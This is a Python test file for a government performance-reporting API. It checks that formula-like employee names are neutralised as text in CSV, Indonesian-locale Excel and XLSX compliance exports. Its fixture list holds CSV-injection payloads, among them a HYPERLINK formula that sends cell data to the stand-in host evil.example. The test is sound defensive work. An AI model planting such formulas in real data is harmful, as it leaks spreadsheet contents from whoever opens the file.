"""A name that a spreadsheet would run as a formula (``=HYPERLINK(...)``, ``@SUM(...)``) comes out of the
compliance report as text in every spreadsheet format: CSV, CSV for Indonesian-locale Excel, and XLSX, while
the JSON keeps the name as it was stored."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import httpx
import openpyxl

from tests.kinerja.test_evaluations_seed import Seeder
from tests.support.fixtures import Tokens

NAMES = ['=HYPERLINK("http://evil.example/?d="&A1,"Klik")', "@SUM(1+1)", "+6281234", "-1+1", "\tTab"]


async def test_formula_like_names_are_neutralised_in_every_spreadsheet_format(
    client: httpx.AsyncClient, seed: Seeder, tokens: Tokens
) -> None:
    unit = await seed.unit("BKD")
    boss = await seed.employee(seed.nip(1), unit, None, position_type="JPT", name="Kepala Badan")
    for i, name in enumerate(NAMES, start=2):
        await seed.employee(seed.nip(i), unit, boss, name=name)
    params = {"period": f"{datetime.now(UTC).year}-Q1", "unit_id": str(unit)}
    reader = tokens.headers("tpp-system", ["integrator"], scope="kinerja:individual")

    as_json = (await client.get("/v1/reports/compliance", params=params, headers=reader)).json()
    assert {i["name"] for i in as_json["items"]} >= set(NAMES)  # stored and shown as given

    plain = await client.get("/v1/reports/compliance", params={**params, "format": "csv"}, headers=reader)
    names = {r["name"] for r in csv.DictReader(io.StringIO(plain.text))}
    assert names >= {"'" + n for n in NAMES}
    assert not names & set(NAMES)

    excel = await client.get(
        "/v1/reports/compliance", params={**params, "dialect": "excel-id"}, headers=reader
    )
    assert excel.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(excel.content.decode("utf-8-sig")), delimiter=";"))
    assert {r["name"] for r in rows} >= {"'" + n for n in NAMES}
    assert {r["skp_approved"] for r in rows} == {"false"}

    book = await client.get("/v1/reports/compliance", params={**params, "format": "xlsx"}, headers=reader)
    sheet = openpyxl.load_workbook(io.BytesIO(book.content))["report"]
    header = [c.value for c in sheet[1]]
    col = header.index("name") + 1
    cells = [sheet.cell(r, col) for r in range(2, sheet.max_row + 1)]
    assert {c.value for c in cells} >= {"'" + n for n in NAMES}
    assert {c.data_type for c in cells} == {"s"}  # text cells; openpyxl would report "f" for a formula
    nip_col = header.index("nip") + 1
    assert all(sheet.cell(r, nip_col).data_type == "s" for r in range(2, sheet.max_row + 1))  # NIPs stay text
